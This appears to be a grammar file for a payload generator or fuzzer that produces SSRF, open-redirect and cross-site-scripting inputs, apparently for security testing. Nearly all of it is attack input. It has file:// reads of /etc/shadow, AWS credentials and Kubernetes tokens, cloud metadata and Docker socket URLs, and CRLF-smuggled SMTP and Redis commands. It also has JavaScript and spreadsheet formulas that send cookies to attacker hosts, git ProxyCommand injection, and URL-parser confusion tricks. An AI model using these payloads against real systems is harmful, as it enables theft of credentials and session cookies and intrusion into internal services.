  ‹netdoc¦local_file¦file¦file:/¦FILE¦file%3a¦url:file¦jar:file›://‹/etc/‹passwd¦hosts¦shadow¦resolv.conf›¦/proc/‹self/environ¦net/arp¦net/tcp¦self/cgroup›¦/C:/windows/win.ini¦/root/.aws/credentials¦/var/run/secrets/kubernetes.io/serviceaccount/token¦/app/.env¦localhost/etc/passwd¦‹host›/etc/passwd¦127.0.0.1/etc/hosts›
  jar:‹http¦https¦ftp¦file›://‹‹host›¦‹ss.loop›:‹ss.port›¦‹ss.lan››/‹~2-8›.‹zip¦jar¦war›!/‹¦‹~2-8›.‹xml¦class¦txt››
  ‹imap¦imaps¦pop3¦pop3s¦smtp¦smtps›://‹‹ss.loop›¦‹ss.lan››:‹ss.port›/‹¦INBOX;UID=‹#1-9›¦%0d%0aHELO%20‹~2-6›%0d%0aMAIL%20FROM:‹~2-6›@‹host›¦‹~3-8››
  ‹telnet¦rtsp¦rtmp¦rtmpt¦mms¦mqtt¦nntp¦finger¦whois¦irc¦ipp¦rmi¦iiop¦corba¦cifs¦smb¦nfs¦afp¦webdav¦davs¦amqp¦xmpp›://‹‹ss.loop›¦‹ss.lan››:‹ss.port›/‹¦‹~3-8››
  ‹http+unix¦unix¦http://unix¦https+unix¦npipe¦unix+http›‹://¦:/¦:›‹%2fvar%2frun%2fdocker.sock/‹containers/json¦images/json¦version›¦var/run/docker.sock:/‹containers/json¦v1.41/info¦version›¦%2Frun%2F‹~3-8›.sock/‹~3-8›¦/run/php-fpm.sock|fcgi://‹~3-8›¦/var/run/mysqld/mysqld.sock›
  ‹fcgi¦uwsgi¦ajp¦scgi¦fd¦ftp+http›://‹ss.loop›:‹9000¦8009¦3031¦8008¦‹ss.port››/‹~3-8›
  ‹git¦svn¦hg¦bzr¦git+http¦ext›::‹http://‹ss.secret›/‹~2-8›.git¦ssh://-oProxyCommand=‹~2-6›/‹~2-4››
  ‹phar¦zip¦expect¦php¦ogg¦compress.zlib›://http://‹ss.secret›
  ‹chrome¦about¦chrome-extension¦view-source›:‹//‹settings¦net-internals/#dns¦version¦gpu¦credits›¦http://‹ss.secret››
  ‹s3¦gs¦azure¦abfs¦wasb¦hdfs¦viewfs›://‹~3-8›‹@‹ss.loop›¦:‹port››/../‹~3-8›/‹~3-8›
  ‹data:text/html,<‹iframe¦script¦img› src=http://‹ss.secret›></‹iframe¦script›>¦data:text/html;base64,‹b64!<iframe src=http://‹ss.secret›>››
  ‹mongodb¦mysql¦postgres¦redis¦amqp¦jdbc:mysql¦jdbc:postgresql¦couchbase¦memcached¦cassandra›://‹‹~3-7›:‹*4-9›@¦›‹‹ss.loop›¦‹ss.lan››:‹ss.port›/‹~3-8›

// One host to the parser that checks, another to the one that asks.
ss.good: ‹www.¦›‹~4-10›.‹com¦net¦org¦io›
  ‹trusted¦example¦google¦www.google¦allowed¦safe¦api.‹~4-8›¦www.‹~4-9›¦‹~4-9›¦cdn.‹~4-9›¦whitelisted-domain¦accounts.‹~4-9›¦good›.‹com¦net¦org¦example›
ss.bad: 4× ‹ss.secret›
  2× ‹host›‹¦/¦/‹~2-8››
  ‹ss.out›
ss.confused: 2× ‹ss.good›‹@¦:80@¦%40¦%2540¦:443@¦%20@¦%00@¦.@¦@@¦＠¦%09@¦&@¦:@¦:foo@›‹ss.bad›
  ‹ss.bad›‹#@¦?@¦%23@¦%3f@¦\@¦%5c@¦/@¦#¦;@¦%2523@¦%00@¦%0d%0a@¦%ff@¦#.¦?.¦?=.¦%20#@¦＃@¦？@¦／@¦＼@¦/..;@¦\.¦%5c.¦;.¦&@¦#%20@¦:80#@¦:80\@›‹ss.good›
  ‹host›:80%40‹ss.good›/
  ‹~1-4›@‹ss.bad›:80@‹ss.good›/
  ‹~1-4›@‹ss.bad›:‹ss.port›#@‹ss.good›/
  ‹ss.good›:‹ss.port›:‹ss.port›@‹ss.bad›
  ‹ss.good› @‹ss.bad›
  ‹ss.good›#@‹ss.bad›
  ‹ss.good›&@‹ss.bad›#@‹ss.good›/
  ‹ss.good›\‹@¦.›‹ss.bad›
  ‹ss.good›%00.‹host›
  ‹ss.good›‹%0d%0a¦%0a¦%09¦%ff¦%E3%80%82¦。¦%252e¦%5b¦[¦%E2%80%8B¦;¦\t›.‹host›
  ‹ss.loop›:‹ss.port›‹/¦\›‹ss.good›‹/¦\›..
  {‹ss.good›,‹ss.bad›}
  ‹host›/‹×1-3:‹..;/¦..%2f¦.%2e/››@‹ss.bad›
  [‹ss.good›]@‹ss.bad›
  ‹ss.loop›.‹ss.good›@‹ss.bad›
ssrf/confused [value] 7: 6× ‹ss.scheme›://‹ss.confused›
  ‹ss.scheme›‹ss.slashes›‹ss.confused›
  //‹ss.confused›
  http‹ss.slashes›‹host›‹ss.slashes›‹ss.secret›
  http://‹ss.good›/‹redirect¦redir¦r¦out¦go¦link¦url¦api/proxy¦login/oauth/authorize›?‹url¦u¦to¦target¦dest¦next¦redirect_uri›=http://‹ss.secret›
  http://‹‹ip›¦‹host››/‹30‹#1-8›¦redirect¦r¦redir¦30‹#1-8›.php›‹?¦/›‹url=¦u=¦to=¦›‹http://¦gopher://¦dict://¦file:///›‹ss.secret›
  ‹httpbin.org¦postman-echo.com¦nghttp2.org/httpbin¦ssrf.‹~3-6›.com¦307.r3dir.me¦302.r3dir.me›/‹redirect-to?url=¦--to/?url=›‹percent!http://‹ss.secret››
  http://‹ss.rebind›:‹ss.port›/‹~3-8›
  ‹percent!http://‹ss.confused››
  http:‹~2-6›://‹ss.bad›
  ‹http¦https›:‹ss.bad›
  ‹0://‹ss.bad›:‹ss.port›;‹ss.good›:80/¦http://1.1.1.1 &@‹ss.bad›# @‹ss.good›/¦http://‹ss.bad›:‹ss.port›\@‹ss.good›:80/¦http://‹~3-6›@‹ss.bad›@‹ss.good›/¦http:\\‹ss.good›@‹ss.bad››
  ‹localhost¦127.0.0.1›:‹ss.port›\@‹ss.good›
  ‹ss.good›:‹ss.port›@‹ss.loop›:‹ss.port›/‹~2-8›

ss.evil: 4× ‹host›
  ‹evil¦attacker¦phish¦malicious¦bing¦google¦example¦hacker¦bad-site›.‹com¦net¦example¦tk›
  ‹ip›
  ‹‹#1000000000-3700000000›¦0x‹%8›¦‹ss.out››
  ‹0x‹%2›.‹#1000000-16000000›¦0x‹%2›.0x‹%2›.0x‹%2›.0x‹%2›¦00‹#100-337›.0‹#10-77›.‹#1-65000›¦[::‹ip›]¦[::ffff:‹ip›]¦‹#256-999›.‹#256-999›.‹#256-999›.‹#256-999›¦‹percentAll!‹host››¦‹~4-9›。com¦‹~4-9›%E3%80%82net›
ss.ways = // // /\ \/ \\ /// //// ///// \\\ /\/ \/\/ /\\ //\ \\/ /%5c %5c/ %5c%5c /%2f %2f%2f %2f/ /%2F %2F%2F /%09/ %09// /%0a/ /%0d/ /%00/ //%09/ /⇥/ ⇥// ⏎// ␠// %20// /.// //;@ /;/ .// ./\ /%252f %252f%252f
  /%5c%5c %5c%5c%5c /\%09 /%0d%0a/ /%E3%80%82 //%E3%80%82 /〱 /〵 /゛ /ゝ /ー /ｰ ⁄⁄ ／／ //／ ゝ ー 〱 /%2f%2f .%2f%2f //%5c \%2f //\/ /%e2%81%84 ////%5c /%3f// /%23// %0d%0a// %00// /%u002f \u002f\u002f
ss.end: 8× ∅
  3× /
  3× /‹~2-8›
  /‹%2e%2e¦..¦%2f..¦%2e%2e%2f¦%2f%2e%2e¦..;/css¦/..›
  ‹%23¦#¦%3f¦?¦%00¦%20¦%09¦;¦@¦\¦%5c›
  //‹¦‹~2-6››
  ?‹~1-6›=‹~1-6›
  ‹#¦?¦/¦\¦%23¦%3f›‹ss.good›
  :‹ss.port›
  %2f‹~2-6›
ss.redirect: 7× ‹ss.ways›‹ss.evil›‹ss.end›
  2× //‹ss.evil›‹ss.end›
  2× ‹http¦https›:‹¦/¦\¦\\¦\/¦/\¦///¦////¦/\/\¦%5c%5c¦%2f%2f¦\t//¦/%0d/¦/%09/¦⇥//¦%0a//¦////\;@¦//%5c¦／／›‹ss.evil›‹ss.end›
  ‹http¦https›://‹ss.good›‹@¦%40¦:80@¦%00@¦%0a@¦%2540¦&@¦:pass@¦＠¦%5b@¦ @›‹ss.evil›‹ss.end›
  ‹http¦https›://‹ss.evil›‹\@¦%5c@¦#@¦%23@¦?@¦%3f@¦\.¦%5c.¦%E3%80%82¦;@¦%ff@¦\\¦%2f@¦%00.¦%0d%0a.¦／@¦？@¦＃@¦／.›‹ss.good›
  //‹ss.good›‹@¦%40¦:80@¦%00@›‹ss.evil›‹ss.end›
  ‹×1-3:‹%09¦%0a¦%0d¦%00¦%20¦␁¦⇥¦␠¦%0b¦%01¦%e2%80%8b¦.¦;››‹//¦/\¦http:›‹ss.evil›
  @‹ss.evil›/‹~2-8›
  .‹ss.evil›@‹ss.evil›
  /‹ss.good›/‹×1-4:‹../¦%2e%2e/¦..%2f››/‹ss.evil›
  //‹ss.evil›/‹ss.good›/..
  ‹percent!‹//¦/\¦///¦http:\\›‹ss.evil›/‹~2-8››
  ‹percent!‹percent!‹//¦https://‹ss.good›@›‹ss.evil›››
  ‹/login¦/‹~3-8›¦/redirect›?‹next¦url¦to¦return_to¦r›=‹ss.ways›‹ss.evil›
  ‹HTTP¦hTTpS¦‹mixed!https››:‹//¦\\¦/¦›‹ss.evil›%2f‹ss.good›
  ht‹%09¦%0a¦⇥¦⏎›tp‹¦s›://‹ss.evil›
  ‹http¦https›://‹ss.evil›%2f%2f.‹ss.good›
  /‹×1-4:‹/¦%2f¦\››‹ss.evil›‹/%2f..¦//..¦/%2e%2e¦%2f%2e%2e%2f›
  ‹http:¦https:¦›‹%2f%2f¦%5c%5c¦%252f%252f›‹ss.evil›
  ///‹ss.good›@‹ss.evil›
  0;url=‹//‹ss.evil›¦javascript:alert(‹n›)¦/\‹ss.evil›¦‹ss.url››
ss.script: javascript:‹alert¦confirm¦prompt›(‹‹n›¦document.domain¦document.cookie¦´‹n›´›)‹¦//¦;//‹ss.good›¦//http://‹ss.good››
  ‹‹mixed!javascript›¦java%0d%0ascript¦java⇥script¦java%09script¦javascript%3a¦␁javascript¦%20javascript¦\x6aavascript¦javascript%253a¦/%09/javascript¦//javascript¦\javascript›:‹alert(‹n›)¦//%0aalert(‹n›)¦//‹ss.good›/%0a‹alert¦confirm›(‹n›)¦%0aalert(‹n›)//›
  javascript://‹ss.good›/‹%0a¦%0d%0a¦%250a¦%E2%80%A8¦⏎›‹alert(‹n›)¦location='//‹host›'¦fetch('//‹host›/?'+document.cookie)›
  javascript:‹location¦window.location¦top.location›‹=¦.href=¦.replace(›'‹//¦https://›‹host›/‹¦'+document.cookie¦'›
  data:text/html‹;base64,‹b64!<script>‹alert(‹n›)¦location='//‹host›'›</script>›¦,<script>location='//‹host›'</script>›
  ‹vbscript¦jAvAsCrIpT¦javascripT›:‹msgbox(‹n›)¦alert(‹n›)¦confirm´‹n›´›
ssrf/redirect [value] 10: 9× ‹ss.redirect›
  2× ‹ss.script›
ssrf/redirect-path [path] 4: 4× /‹¦‹~2-8›/›‹ss.ways›‹ss.evil›‹¦/¦/%2e%2e¦/..¦%2f..¦//¦/%2f..¦/‹~3-6›/..¦/%2e%2e%2f›
  ///‹ss.evil›‹¦/¦//¦/%2f%2e%2e¦/..;/css¦/%252e%252e%252f›
  //‹ss.good›@‹ss.evil›/%2f..
  /‹@¦;@¦%40¦.¦?¦%3f¦%23¦%3b@›‹ss.evil›‹¦/›
  /‹redirect¦redir¦out¦go¦cgi-bin/redirect.cgi¦r¦link¦exit¦login›/‹ss.redirect›
  /‹https:%2f%2f¦http:\\¦https:%5c%5c¦http:///¦https:////¦http%3a%5c%5c›‹ss.evil›/‹~2-6›
  /‹http¦https›:‹//¦/¦///¦%2f%2f›‹ss.good›@‹ss.evil›‹¦/%2f..¦/%2e%2e¦/..›
  /‹‹~3-9›¦proxy¦cors_proxy¦cors¦image¦url¦fetch¦plain¦redir›/‹¦‹~2-6›/›‹http://¦https://¦http:/¦›‹ss.out›‹¦/¦/‹~1-6››
  /‹~3-8›.‹php¦asp¦cgi›/‹ss.out›/‹¦..;/¦%2f..›
  /‹*20-40›/‹rs:fit:‹#10-900›:‹#10-900›:0:0¦fit-in/‹#10-900›x‹#10-900›¦‹#10-900›x›/plain/http://‹‹ss.out›¦‹ss.secret››
  /‹proxy¦fetch¦api/proxy¦image¦img¦thumb¦render¦pdf¦screenshot¦preview¦unfurl¦oembed¦cors¦https¦_next/image¦plugins/servlet/gadgets/makeRequest¦ssrf¦remote¦download¦‹~3-8››/‹¦url=¦‹#50-900›x‹#50-900›/¦unsafe/¦filters:blur(‹#1-9›)/›‹http://¦http:/¦http%3a%2f%2f¦https://¦gopher://¦file:///›‹ss.secret›
  /‹http://‹ss.secret›¦http:/‹ss.secret›¦‹ss.metadata››
  /‹latest/meta-data/‹iam/security-credentials/¦hostname¦›¦computeMetadata/v1/instance/service-accounts/default/token¦metadata/instance/compute¦opc/v1/instance/¦latest/user-data¦openstack/latest/meta_data.json›
  /unix:‹×200-900:A›|http://‹ss.secret›
  /‹~3-8›/@‹ss.loop›:‹ss.port›/
  /‹~3-8›/‹%23¦%3f¦;›@‹ss.bad›
  /‹ss.loop›:‹ss.port›/‹~3-8›
ssrf/redirect-tricks [value] 2: ‹ss.good›.‹host›‹//¦/\¦%2f%2f›@‹ss.evil›
  ‹http¦https›://‹ss.good›.‹ss.evil›@‹ss.evil›/
  /‹×2-5:‹ss.ways››‹ss.evil›
  ‹ss.ways›‹ss.evil›‹ss.ways›‹ss.good›
  ‹ss.ways›‹ss.script›
  ‹octal!‹javascript:alert(‹n›)¦//‹ss.evil›››
  ‹ss.ways›‹percent!javascript:alert(‹n›)›
  ‹https://¦http://¦//›‹%5c¦%2f¦\¦%09¦%00¦@¦%40›‹ss.evil›
  <>‹ss.ways›‹ss.evil›
  ‹"¦'¦<¦>¦(›‹ss.ways›‹ss.evil›‹"¦'¦>¦)›
  ‹‹~2-8›¦/‹~2-8››‹%0d%0a¦%0a¦⏎›‹//¦/\¦http:\\›‹ss.evil›
  //‹ss.evil›:‹ss.port›\@‹ss.good›
  ‹=a:‹ss.ways››‹ss.evil›‹=a›‹ss.evil›
  ‹unicode!//‹ss.evil››
  //‹percentAll!‹ss.evil››
  ‹entity!//‹ss.evil››/
  ‹~3-8›:‹//¦\\›‹ss.evil›/‹=b:‹~2-6››?‹=b›=‹ss.ways›‹ss.evil›

ss.key = url uri link src source href dest destination target redirect redirect_uri return returnUrl return_to next continue callback callback_url callbackUrl webhook webhook_url hook feed rss
  host domain site server proxy image image_url imageUrl img avatar avatar_url picture photo icon logo file file_url document pdf html page path load fetch import import_url remote remote_url
  endpoint api_url base_url baseUrl origin upstream backend gateway notify_url notificationUrl ping validate preview screenshot thumbnail wsdl schema xsd jku x5u issuer jwks_uri logo_uri request_uri
  sector_identifier_uri initiate_login_uri repo repository git_url template stream.url data_url media video audio subtitle manifest icon_url ‹~2-7›Url ‹~2-7›_url ‹~2-7›Uri ‹~3-8›
ssrf/json [body-json,body-json,value] 6: 5× {"‹ss.key›":"‹json!‹‹ss.url›¦‹ss.url›¦http://‹ss.out›/‹~1-6›¦http://‹ss.confused›››"}
  {"‹ss.key›":"‹json!‹ss.url››","‹~2-8›":‹"‹rnd›"¦true¦‹n›¦null›}
  {"‹~3-8›":{"‹ss.key›":"‹json!‹ss.url››","‹method¦type¦name›":"‹GET¦POST¦http¦remote¦‹~3-8››"}}
  {"‹urls¦sources¦images¦feeds¦targets¦links›":["‹json!‹ss.url››"‹,"http://‹ss.out›/"¦,"‹json!‹ss.url››"¦›]}
  {"‹redirect¦next¦returnUrl¦redirect_uri¦return_to¦continue¦relay_state›":"‹json!‹ss.redirect››"‹¦,"‹~3-8›":"‹rnd›"›}
  {"events":["‹~3-8›"],"config":{"url":"‹json!‹‹ss.url›¦https://‹ss.out›/‹~1-6›››","content_type":"json","insecure_ssl":"1"},"active":true}
  {"html":"<‹iframe¦img¦embed› src='http://‹ss.secret›'></iframe>"‹¦,"format":"A4"›}
  {"‹html¦content¦markdown¦body¦template›":"‹json!‹ss.tag››"}
  {"alg":"RS256","typ":"JWT","‹jku¦x5u›":"http‹¦s›://‹‹ss.out›¦‹ss.loop›:‹ss.port›¦‹ss.good›@‹ss.evil››/‹jwks.json¦.well-known/jwks.json¦‹~1-6››"}
  {"redirect_uris":["https://‹host›/cb"],"‹logo_uri¦jwks_uri¦sector_identifier_uri¦request_uris¦policy_uri›":"‹json!‹ss.url››"}
  {"query":"mutation{‹import¦fetch¦create¦upload›‹^1›‹~3-8›(‹url¦link¦host›:\"http://‹ss.secret›\"){‹~2-8›}}"}
  {"jsonrpc":"2.0","id":‹#1-9›,"method":"‹~3-8›.‹fetch¦load¦import¦proxy›","params":["‹json!‹ss.url››"]}
  {"type":"‹s3¦gcs¦url¦http¦elasticsearch¦prometheus¦influxdb›","‹url¦endpoint¦host›":"http://‹ss.secret›","access":"proxy"}
  {"import_url":"‹git¦http¦https›://‹‹ss.lan›¦‹ss.loop›¦[0:0:0:0:0:ffff:127.0.0.1]›:‹ss.port›/‹~2-6›/‹~2-6›.git‹¦%0a%0d multi%0a sadd resque:gitlab:queues›"}
  {"id":"‹~3-8›","uri":"http://‹ss.secret›","predicates":[{"name":"Path","args":{"_genkey_0":"/‹~3-8›/**"}}],"filters":[]}
  {"apiVersion":"v1","kind":"‹Service¦APIService›","spec":{"externalName":"169.254.169.254","type":"ExternalName"}}
  {"blocks":[{"type":"image","image_url":"http://‹ss.secret›","alt_text":"‹~2-8›"}]}
  {"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://‹ss.secret›"}}]}]}
  "‹json!‹ss.url››"
ssrf/header [header] 5: ‹ss.out›
  2× ‹http¦https›://‹ss.out›‹¦/¦/‹~2-6››
  ‹ss.aws›
  http://‹ss.metadata›
  ‹ss.good›‹@¦:@¦:80@¦:‹ss.port›@¦#@¦\@¦ @›‹‹ss.bad›¦‹ss.evil››
  ‹ss.good›:‹ss.port›:‹ss.port›@‹ss.evil›
  for=‹ss.out›;host=‹ss.out›;proto=http
  for="‹ss.loop›:‹ss.port›";by=‹ss.out›;host=‹ss.aws›
  host=‹ss.aws›;proto=http‹, for=127.0.0.1¦›
  ‹metadata.google.internal¦instance-data¦kubernetes.default.svc¦localhost:‹2375¦9200¦8500¦10250¦6379››
  ‹gopher¦dict¦file›://‹ss.loop›:‹ss.port›/
  spoofed.‹ss.out›
  root@‹ss.out›
  ‹~3-8›.‹ss.out›, ‹ss.out›
  http://‹ss.out›/wap.xml
  <http://‹ss.out›/‹~1-6›>; rel="‹preload¦stylesheet¦pingback¦next›"
  //‹ss.evil›/‹%2e%2e¦..¦›
  /\‹ss.evil›
  http://‹ss.good›/‹~2-8›?‹url¦next¦u¦to¦src›=‹‹ss.url›¦‹ss.redirect››
  ‹‹ss.redirect›¦‹ss.confused››
ssrf/parameter [value,header] 3: /‹‹~3-9›¦proxy¦fetch¦preview¦redirect¦login¦logout¦image¦export/pdf¦oauth/authorize›‹¦.php¦.jsp¦.aspx¦.do›?‹ss.key›=‹ss.url›
  /‹login¦logout¦signin¦redirect¦out¦sso¦auth/callback¦‹~3-9››‹¦.php¦.aspx›?‹next¦url¦return¦returnTo¦return_url¦redirect_to¦RelayState¦continue¦dest¦goto¦checkout_url¦ReturnUrl¦r¦u¦go¦service¦target¦‹~1-7››=‹ss.redirect›
  ‹ss.key›=‹ss.url›
  ‹next¦url¦redirect_uri¦returnTo¦goto¦continue›=‹ss.redirect›
  http://‹host›/‹~3-8›?‹ss.key›=‹percent!‹ss.url››
  ‹ss.key›=‹~2-6›&‹ss.key›=‹ss.url›
  /?‹×2-6&:‹next¦url¦redirect¦redir¦rurl¦dest¦target¦to¦return¦r›=‹ss.ways›‹ss.evil››
  q=*:*&shards=http://‹ss.secret›
  stream.url=‹ss.url›&stream.contentType=text/plain
  ‹client_id=‹~3-8›&redirect_uri=https://‹ss.good›@‹ss.evil›&response_type=code¦SAMLRequest=‹*20-60›&RelayState=‹ss.redirect›¦action=‹~3-9›&‹ss.key›=‹ss.url››

ss.tag: 2× <iframe src=‹"¦'¦›‹ss.url›‹"¦'¦›‹ width=‹#100-1000› height=‹#100-1000›¦›></iframe>
  <‹img¦embed¦script¦video¦audio¦source¦input type=image¦bgsound¦frame¦track› src=‹"¦'¦›‹ss.url›‹"¦'¦›‹>¦/>›
  <object ‹type="text/html" ¦›data="‹ss.url›"></object>
  <link rel=‹stylesheet¦attachment¦import¦icon¦prefetch¦preload¦dns-prefetch› href="‹‹ss.url›¦//‹ss.out›/‹~1-5››">
  <meta http-equiv="refresh" content="0;url=‹ss.url›">
  <base href="http://‹‹ss.out›¦‹ss.secret››/">
  <style>‹@import url(‹ss.url›);¦body{background:url('‹ss.url›')}¦@font-face{font-family:‹~1-5›;src:url("‹ss.url›")}¦li{list-style-image:url(//‹ss.out›/‹~1-4›)}›</style>
  <svg‹ xmlns="http://www.w3.org/2000/svg"¦› xmlns:xlink="http://www.w3.org/1999/xlink"‹ width="‹#1-900›" height="‹#1-900›"¦›><‹image¦use¦feImage¦script¦a› ‹xlink:¦›href="‹ss.url›"‹ height="‹#1-900›" width="‹#1-900›"¦›/></svg>
  <svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="‹#100-999›" height="‹#100-999›"><iframe xmlns="http://www.w3.org/1999/xhtml" src="‹ss.url›"></iframe></foreignObject></svg>
  <svg><style>@import '‹ss.url›';</style></svg>
  <svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(‹ss.url›#‹~1-5›)"/><cursor xlink:href="‹ss.url›"/></svg>
  <script>‹var ‹=v:‹~1-3››=new XMLHttpRequest();‹=v›.open("GET","‹ss.url›",false);‹=v›.send();document.write(‹=v›.responseText)¦fetch('‹ss.url›').then(r=>r.text()).then(t=>‹fetch('//‹ss.out›/?'+btoa(t))¦document.body.innerText=t›)¦location='‹ss.url›'¦document.write('<iframe src="‹ss.url›"></iframe>')¦new Image().src='//‹ss.out›/'+document.cookie¦navigator.sendBeacon('//‹ss.out›')›</script>
  <portal src="‹ss.url›">
  <table background="‹ss.url›">
  <form action="‹ss.url›" method=post><input name=‹~1-5› value=‹rnd›></form><script>document.forms[0].submit()</script>
  <pd4ml:attachment src="‹ss.url›" icon="Paperclip"/>
  <esi:include src="‹ss.url›"/>
  <!--#include virtual="http://‹ss.secret›"-->
  ![‹~1-6›](‹ss.url›)
  [‹~1-6›]: ‹ss.url›
  <annotation file="‹ss.url›"/>
  <x:include href="‹ss.url›"/>
  <a href="//‹ss.out›" ping="‹ss.url›">‹word›</a>
ssrf/markup [value,value,file] 5: 5× ‹ss.tag›
  <html><body>‹ss.tag›</body></html>
  ‹word› ‹ss.tag›
  ‹xml!‹ss.tag››
  @import url('‹ss.url›');
  #EXTM3U⏎#EXT-X-MEDIA-SEQUENCE:0⏎#EXTINF:‹#1-10›.0,⏎‹ss.url›⏎#EXT-X-ENDLIST
  push graphic-context⏎viewbox 0 0 ‹#100-900› ‹#100-900›⏎‹fill 'url(‹ss.url›)'¦image over 0,0 0,0 '‹ss.url›'›⏎pop graphic-context
  =‹IMPORTXML¦IMAGE¦WEBSERVICE¦IMPORTHTML¦IMPORTDATA¦IMPORTFEED¦HYPERLINK›("‹http://‹ss.out›/‹~1-5›¦‹ss.url››"‹,"//‹~1-4›"¦›)
  {{ ‹load_json¦fetch¦get_url¦url_include›("‹ss.url›") }}
  \includegraphics{‹ss.url›}
  !include ‹ss.url›
  .. image:: ‹ss.url›
  include::‹ss.url›[]
  BEGIN:VCALENDAR⏎BEGIN:VEVENT⏎ATTACH:‹ss.url›⏎END:VEVENT⏎END:VCALENDAR
  include:⏎  - remote: ‹ss.url›
  ffconcat version 1.0⏎file '‹ss.url›'
  [autorun]⏎icon=‹\\‹ss.out›\‹~1-4›¦‹ss.url››
  FROM scratch⏎ADD ‹ss.url› /‹~1-6›
  url: ‹ss.url›⏎method: ‹GET¦PUT¦POST›⏎headers: {"‹Metadata-Flavor":"Google¦X-aws-ec2-metadata-token-ttl-seconds":"21600¦Metadata":"true›"}
ssrf/svg [file] 2: ‹<?xml version="1.0"?>⏎¦›<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="‹#1-900›" height="‹#1-900›"><‹image¦use¦feImage› ‹xlink:¦›href="‹ss.url›" x="0" y="0"/></svg>
  <svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="‹#100-900›" height="‹#100-900›"><‹iframe¦img¦embed› xmlns="http://www.w3.org/1999/xhtml" src="‹ss.url›"/></foreignObject></svg>
  <?xml-stylesheet type="text/‹css¦xsl›" href="‹ss.url›"?><svg xmlns="http://www.w3.org/2000/svg"><text>‹word›</text></svg>
  <svg xmlns="http://www.w3.org/2000/svg"><style>‹@import url(‹ss.url›);¦rect{fill:url('‹ss.url›#‹~1›')}›</style><rect width="‹#1-99›" height="‹#1-99›"/></svg>
  <html><head>‹ss.tag›</head><body>‹ss.tag›</body></html>
ssrf/xml [body-xml,value] 3: <?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>‹xml!‹‹ss.url›¦http://‹ss.out›/‹~1-6›››</string></value></param><param><value><string>http://‹host›/‹noun›</string></value></param></params></methodCall>
  <soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:wsa="http://www.w3.org/2005/08/addressing"><soapenv:Header><wsa:‹ReplyTo¦FaultTo›><wsa:Address>‹xml!‹ss.url››</wsa:Address></wsa:‹ReplyTo¦FaultTo›></soapenv:Header><soapenv:Body/></soapenv:Envelope>
  <‹=r:‹~3-8›› xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:‹schemaLocation="‹~2-6› ¦noNamespaceSchemaLocation="›‹xml!‹ss.url››"/>
  <?xml-stylesheet type="text/xsl" href="‹xml!‹ss.url››"?><‹=r:‹~3-8››>‹word›</‹=r›>
  <‹=r:‹~3-8››><‹=t:‹url¦link¦callback¦image¦src¦wsdl¦href¦location¦‹~3-8›››>‹xml!‹ss.url››</‹=t›></‹=r›>
  <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:‹include¦import› href="‹xml!‹ss.url››"/></xsl:stylesheet>
  <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document('‹xml!‹ss.url››')"/></xsl:template></xsl:stylesheet>
  <rss version="2.0"><channel><link>‹xml!‹ss.url››</link><image><url>‹xml!‹ss.url››</url></image></channel></rss>
  <samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" AssertionConsumerServiceURL="https://‹ss.good›@‹ss.evil›/" ID="_‹%32›"/>
  <ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:RetrievalMethod URI="‹xml!‹ss.url››"/></ds:KeyInfo>
  <kml xmlns="http://www.opengis.net/kml/2.2"><NetworkLink><Link><href>‹xml!‹ss.url››</href></Link></NetworkLink></kml>
  <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId‹#1-99›" Target="‹xml!‹ss.url››" TargetMode="External"/></Relationships>
  <wfs:GetFeature xmlns:wfs="http://www.opengis.net/wfs"><sld>‹xml!‹ss.url››</sld></wfs:GetFeature>
  <D:propfind xmlns:D="DAV:"><D:href>‹xml!‹ss.url››</D:href></D:propfind>
  <xenc:CipherReference xmlns:xenc="http://www.w3.org/2001/04/xmlenc#" URI="‹xml!‹ss.url››"/>
`
